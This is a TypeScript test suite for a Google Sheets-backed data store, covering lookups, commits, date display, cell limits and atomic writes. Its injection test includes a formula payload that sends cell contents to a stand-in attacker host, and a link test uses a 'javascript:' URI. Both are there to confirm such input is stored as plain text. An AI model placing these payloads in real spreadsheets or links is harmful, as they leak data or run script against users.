/** Finding and committing on a sheet that stays as it is. */
import type { Change, Row } from '../../../src/book/book';
import { CELL_LIMIT } from '../../../src/book/cell-values';
import { openStage } from './stage';

const address = (text: string, contactId: string): Change => ({
  kind: 'insert',
  table: 'Addresses',
  values: { address: text, contactId },
});

test('a row that was added is found by a cell, letter case ignored', () => {
  const stage = openStage();
  stage.commit([address('Ann@example.com', 'P-1'), address('joann@example.com', 'P-2')]);
  const [rows] = stage.find([{ table: 'Addresses', column: 'address', keys: ['ann@EXAMPLE.com'] }]);
  expect(rows?.map(row => row.values['contactId'])).toEqual(['P-1']);
});

test('several questions are answered in their order by one search and one read', () => {
  const stage = openStage();
  stage.commit([
    address('a@example.com', 'P-1'),
    { kind: 'insert', table: 'Contacts', values: { id: 'P-1', name: 'Ann' } },
    { kind: 'insert', table: 'Settings', values: { name: 'Language', value: 'en' } },
  ]);
  const { value, calls } = stage.run<readonly (readonly Row[])[]>(`book.find([
    { table: 'Contacts', column: 'id', keys: ['P-1', 'P-9'] },
    { table: 'Addresses', column: 'address', keys: ['nobody@example.com'] },
    { table: 'Settings', column: 'name', keys: ['language'] },
    { table: 'Addresses', column: 'address', keys: ['a@example.com'] },
  ])`);
  expect(value.map(rows => rows.length)).toEqual([1, 0, 1, 1]);
  const remote = calls.filter(call => call.remote).map(call => call.name);
  expect(remote.filter(name => /findAll/.test(name))).toHaveLength(1);
  expect(remote.filter(name => /Values/.test(name))).toHaveLength(1);
});

test('the small tables come with the first look and are not read again', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Users', values: { email: 'ben@example.org', active: true } }]);
  const { value, calls } = stage.run<readonly (readonly Row[])[]>(
    `book.find([{ table: 'Addresses', column: 'address', keys: ['x'] }]);
     [book.whole('Users'), book.whole('Users'), book.whole('Routes')]`,
  );
  expect(value.map(rows => rows.map(row => row.values['email']))).toEqual([
    ['ben@example.org'],
    ['ben@example.org'],
    [],
  ]);
  expect(value[0]?.[0]?.values['active']).toBe(true);
  expect(calls.filter(call => /Values/.test(call.name))).toHaveLength(1);
});

test('every type of cell comes back as it was stored', () => {
  const stage = openStage({ timeZone: 'America/Sao_Paulo' });
  const values = { id: 'C-1', subject: '0012', createdAt: '2026-07-01T03:04:05.678Z', messages: 3 };
  stage.commit([{ kind: 'insert', table: 'Cases', values }]);
  const [rows] = stage.find([{ table: 'Cases', column: 'id', keys: ['C-1'] }]);
  expect(rows?.[0]?.values).toMatchObject({ ...values, status: null });
  expect(rows?.[0]?.extra).toEqual({});
});

test('a date cell shows the wall clock of the time zone of the book', () => {
  const stage = openStage({ timeZone: 'Europe/Berlin' });
  stage.commit([
    { kind: 'insert', table: 'Cases', values: { id: 'C-1', createdAt: '2026-07-01T10:00:00Z' } },
  ]);
  expect(stage.tab('Cases').text(1, stage.column('Cases', 'createdAt'))).toBe('1 Jul 2026 12:00');
});

test('text from a mail is stored letter by letter and never as a formula', () => {
  const stage = openStage();
  const texts = [
    '=IMPORTXML("https://evil.example/"&A1)',
    '+49 170 1',
    '-1',
    '@SUM(1)',
    "'quoted",
    '007',
    '1-2',
    'TRUE',
    '1e5',
  ];
  stage.commit(
    texts.map((subject, i): Change => ({
      kind: 'insert',
      table: 'Messages',
      values: { id: `M-${i}`, subject },
    })),
  );
  stage.commit([{ kind: 'update', table: 'Messages', id: 'M-1', values: { note: '=1+1' } }]);
  const column = stage.column('Messages', 'subject');
  expect(texts.map((_, i) => stage.tab('Messages').value(i + 1, column))).toEqual(texts);
  expect(texts.map((_, i) => stage.tab('Messages').extra(i + 1, column)?.formula)).toEqual(
    texts.map(() => undefined),
  );
  const note = stage.column('Messages', 'note');
  expect(stage.tab('Messages').value(2, note)).toBe('=1+1');
  expect(stage.tab('Messages').extra(2, note)?.formula).toBeUndefined();
});

test('a text beyond the cell limit is cut with a mark', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Messages', values: { id: 'M-1', text: '😀'.repeat(CELL_LIMIT) } }]);
  const stored = String(stage.rows('Messages')[0]?.[stage.header('Messages', 'text')]);
  expect(stored.length).toBeLessThanOrEqual(CELL_LIMIT);
  expect(stored).toMatch(/^(😀)+… \[cut at 50,000 characters\]$/u);
});

test('an update sets the named cells and leaves the others, people’s columns and formats', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Cases', values: { id: 'C-1', subject: 'Help', status: 'new' } }]);
  stage.person('Cases').addColumn('Region');
  stage.person('Cases').type(1, stage.tab('Cases').lastColumn() - 1, 'North');
  stage.commit([{ kind: 'update', table: 'Cases', id: 'c-1', values: { status: 'open', messages: 2 } }]);
  const [rows] = stage.find([{ table: 'Cases', column: 'id', keys: ['C-1'] }]);
  expect(rows?.[0]?.values).toMatchObject({ subject: 'Help', status: 'open', messages: 2 });
  expect(rows?.[0]?.extra).toEqual({ Region: 'North' });
});

test('null clears a cell', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Cases', values: { id: 'C-1', subject: 'Help', status: 'new' } }]);
  stage.commit([{ kind: 'update', table: 'Cases', id: 'C-1', values: { subject: null } }]);
  expect(stage.rows('Cases')[0]).toMatchObject({ [stage.header('Cases', 'subject')]: null });
});

test('a web address becomes a link and other texts in a link column do not', () => {
  const stage = openStage();
  const gmailLink = 'https://mail.google.com/mail/u/0/#all/18c';
  stage.commit([
    { kind: 'insert', table: 'Messages', values: { id: 'M-1', gmailLink } },
    { kind: 'insert', table: 'Messages', values: { id: 'M-2', gmailLink: 'javascript:alert(1)' } },
  ]);
  const column = stage.column('Messages', 'gmailLink');
  expect(stage.tab('Messages').value(1, column)).toBe(gmailLink);
  expect(stage.tab('Messages').style(1, column)['textFormat.link']).toEqual({ uri: gmailLink });
  expect(stage.tab('Messages').style(2, column)['textFormat.link'] ?? null).toBeNull();
});

test('one commit is one write, whatever it changes', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Cases', values: { id: 'C-1', status: 'new' } }]);
  const calls = stage.commit([
    address('a@example.com', 'P-1'),
    { kind: 'insert', table: 'Messages', values: { id: 'M-1', caseId: 'C-1' } },
    { kind: 'update', table: 'Cases', id: 'C-1', values: { status: 'open' } },
    { kind: 'update', table: 'Cases', id: 'C-1', values: { messages: 1 } },
  ]);
  expect(calls.filter(call => call.name === 'Sheets.Spreadsheets.batchUpdate')).toHaveLength(1);
  expect(stage.rows('Cases')[0]).toMatchObject({ Status: 'open' });
});

test('when one row is missing nothing of the commit is written, and the row is named', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Cases', values: { id: 'C-1', status: 'new' } }]);
  const problem = stage.failure(`book.commit([
    { kind: 'insert', table: 'Messages', values: { id: 'M-1' } },
    { kind: 'update', table: 'Cases', id: 'C-1', values: { status: 'open' } },
    { kind: 'update', table: 'Cases', id: 'C-7', values: { status: 'open' } },
  ])`);
  expect(problem).toMatchObject({
    name: 'BookError',
    problem: { kind: 'no_row', table: 'Cases', id: 'C-7' },
  });
  expect(problem.message).toContain('C-7');
  expect(stage.rows('Messages')).toEqual([]);
  expect(stage.rows('Cases')).toMatchObject([{ Status: 'new' }]);
});

test('when Google refuses one cell nothing of the commit is written', () => {
  const stage = openStage();
  stage.commit([{ kind: 'insert', table: 'Cases', values: { id: 'C-1', status: 'new' } }]);
  const full = (): void => {
    // A workbook at its limit of ten million cells has no room for another row.
    if (stage.sheet.tabByTitle('Filler') === undefined) {
      stage.sheet.addTab({
        title: 'Filler',
        rowCount: 10_000_000 - stage.sheet.cellCount() - 1,
        columnCount: 1,
      });
    }
  };
  const many = Array.from({ length: 200 }, (_, i) => ({
    kind: 'insert',
    table: 'Messages',
    values: { id: `M-${i}` },
  }));
  const problem = stage.failure(
    `book.commit([{ kind: 'update', table: 'Cases', id: 'C-1', values: { status: 'open' } }, ...${JSON.stringify(many)}])`,
    full,
  );
  expect(problem.problem.kind).toBe('refused');
  expect(stage.rows('Messages')).toEqual([]);
  expect(stage.rows('Cases')).toMatchObject([{ Status: 'new' }]);
});
